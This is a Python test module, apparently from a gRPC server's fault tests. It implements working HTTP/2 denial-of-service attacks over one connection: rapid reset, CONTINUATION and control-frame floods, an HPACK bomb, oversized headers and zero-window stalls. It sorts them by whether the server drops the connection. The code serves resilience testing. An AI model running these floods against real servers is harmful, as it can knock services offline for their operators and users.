"""Attacks on an HTTP/2 server that need one connection and no secrets."""

from __future__ import annotations

import itertools
import select
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.faults.raw_http2 import PREFACE, message, request_headers

WATCH = b"/grpc.health.v1.Health/Watch"
_FRAMES_A_CHUNK = 500


@dataclass(frozen=True)
class Attack:
    """`chunks` yields what is sent, for as long as the server takes it."""

    name: str
    chunks: Callable[[bytes], Iterator[bytes]]


@dataclass(frozen=True)
class Outcome:
    """How an attack ended; `error_code` is that of the GOAWAY, None without one."""

    sent_bytes: int
    seconds: float
    cut_off: bool
    error_code: int | None


def run(address: str, attack: Attack, path: bytes, max_bytes: int, max_s: float = 20.0) -> Outcome:
    """Attacks until it is cut off, or one of the limits is reached."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=max_s) as connection:
        began, sent, received = time.monotonic(), 0, bytearray()
        for chunk in itertools.chain([PREFACE + SettingsFrame(0).serialize()], attack.chunks(path)):
            try:
                connection.sendall(chunk)
                sent += len(chunk)
                if select.select([connection], [], [], 0)[0]:
                    received += connection.recv(1 << 20)
            except TimeoutError:
                break
            except OSError:
                return Outcome(sent, time.monotonic() - began, True, _goaway(received))
            code = _goaway(received)
            if code is not None:
                return Outcome(sent, time.monotonic() - began, True, code)
            if sent >= max_bytes or time.monotonic() - began > max_s:
                break
        return _rest(connection, sent, began, received)


def _rest(connection: socket.socket, sent: int, began: float, received: bytearray) -> Outcome:
    """What the server says when all was sent, and is taken in."""
    connection.settimeout(1.0)
    try:
        while (code := _goaway(received)) is None and (more := connection.recv(1 << 20)):
            received += more
        return Outcome(sent, time.monotonic() - began, True, code)
    except TimeoutError:
        cut_off = False
    except OSError:
        cut_off = True
    return Outcome(sent, time.monotonic() - began, cut_off, _goaway(received))


def _goaway(received: bytearray) -> int | None:
    at = 0
    while len(received) - at >= 9:
        frame, length = Frame.parse_frame_header(memoryview(bytes(received[at : at + 9])))
        if len(received) - at - 9 < length:
            break
        if isinstance(frame, GoAwayFrame):
            return int.from_bytes(received[at + 13 : at + 17], "big")
        at += 9 + length
    del received[:at]
    return None


def _repeated(frame: bytes) -> Callable[[bytes], Iterator[bytes]]:
    return lambda _: itertools.repeat(frame * _FRAMES_A_CHUNK)


def _opened(path: bytes, encoder: Encoder, stream: int = 1) -> bytes:
    frame = HeadersFrame(stream, encoder.encode(request_headers(path), huffman=False))
    frame.flags.add("END_HEADERS")
    return frame.serialize()


def _rapid_reset(path: bytes) -> Iterator[bytes]:
    encoder = Encoder()
    streams = itertools.count(3, 2)
    yield _opened(path, encoder)
    # From now on all headers are in HPACK's table, so the block is always the same.
    block = encoder.encode(request_headers(path), huffman=False)
    while True:
        chunk = b""
        for stream in itertools.islice(streams, _FRAMES_A_CHUNK):
            frame = HeadersFrame(stream, block)
            frame.flags.add("END_HEADERS")
            chunk += frame.serialize() + RstStreamFrame(stream, 8).serialize()
        yield chunk


def _continuation(path: bytes) -> Iterator[bytes]:
    block = Encoder().encode(request_headers(path), huffman=False)
    yield HeadersFrame(1, block).serialize()
    header = b"\x00\x01a\x01b"  # a: b, not indexed
    yield from itertools.repeat(ContinuationFrame(1, header).serialize() * _FRAMES_A_CHUNK)


def _empty_data(path: bytes) -> Iterator[bytes]:
    yield _opened(path, Encoder())
    yield from itertools.repeat(DataFrame(1, b"").serialize() * _FRAMES_A_CHUNK)


def _window_updates(path: bytes) -> Iterator[bytes]:
    yield _opened(path, Encoder())
    yield from itertools.repeat(WindowUpdateFrame(1, 1).serialize() * _FRAMES_A_CHUNK)


def _hpack_bomb(path: bytes) -> Iterator[bytes]:
    """One entry of 4,000 bytes in the table, and 16,000 references to it a frame."""
    encoder = Encoder()
    block = encoder.encode(request_headers(path), huffman=False)
    large = b"\x40\x01a\x7f" + _integer(4_000 - 127) + b"x" * 4_000
    first = HeadersFrame(1, block + large)
    yield first.serialize()
    for _ in range(8):
        yield ContinuationFrame(1, b"\xbe" * 16_000).serialize()
    last = ContinuationFrame(1, b"\xbe" * 16_000)
    last.flags.add("END_HEADERS")
    yield last.serialize()


def _integer(value: int) -> bytes:
    """The rest of an integer of HPACK, after its prefix is full."""
    encoded = bytearray()
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    encoded.append(value)
    return bytes(encoded)


def _large_headers(path: bytes) -> Iterator[bytes]:
    block = Encoder().encode(request_headers(path, (b"a", b"x" * (1 << 20))), huffman=False)
    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    yield HeadersFrame(1, parts[0]).serialize()
    for part in parts[1:]:
        yield ContinuationFrame(1, part).serialize()


def _unread_bodies(path: bytes) -> Iterator[bytes]:
    """Streams with a window of bytes each, of a message that never ends."""
    encoder = Encoder()
    prefix = b"\0" + (4 << 20).to_bytes(4, "big")
    body = DataFrame(1, bytes(16_000)).serialize()
    for stream in itertools.count(1, 2):
        chunk = _opened(path, encoder, stream) + DataFrame(stream, prefix).serialize()
        yield chunk + (body[:5] + stream.to_bytes(4, "big") + body[9:]) * 4


def unread_responses(request: bytes) -> Attack:
    """Calls whose responses can't be sent: the window of each stream is 0."""

    def chunks(path: bytes) -> Iterator[bytes]:
        encoder = Encoder()
        yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
        for stream in itertools.count(1, 2):
            data = DataFrame(stream, message(request))
            data.flags.add("END_STREAM")
            yield _opened(path, encoder, stream) + data.serialize()

    return Attack("unread responses", chunks)


FLOODS = (
    Attack("rapid reset", _rapid_reset),
    Attack("CONTINUATION", _continuation),
    Attack("SETTINGS", _repeated(SettingsFrame(0, {3: 1}).serialize())),
    Attack(
        "SETTINGS with many entries",
        _repeated(SettingsFrame(0, dict.fromkeys(range(10, 1010), 1)).serialize()),
    ),
    Attack("PING", _repeated(PingFrame(0, bytes(8)).serialize())),
    Attack("empty DATA", _empty_data),
    Attack("WINDOW_UPDATE", _window_updates),
    Attack("HPACK bomb", _hpack_bomb),
    Attack("large headers", _large_headers),
)
"""The server ends the connection."""
BOUNDED = (
    Attack("PRIORITY", _repeated(PriorityFrame(1, depends_on=0, stream_weight=1).serialize())),
    Attack("unknown frames", _repeated(b"\0\0\4\xfa\0\0\0\0\0abcd")),
    Attack("unread bodies", _unread_bodies),
    unread_responses(b""),
)
"""The server may keep the connection, with little memory and CPU."""
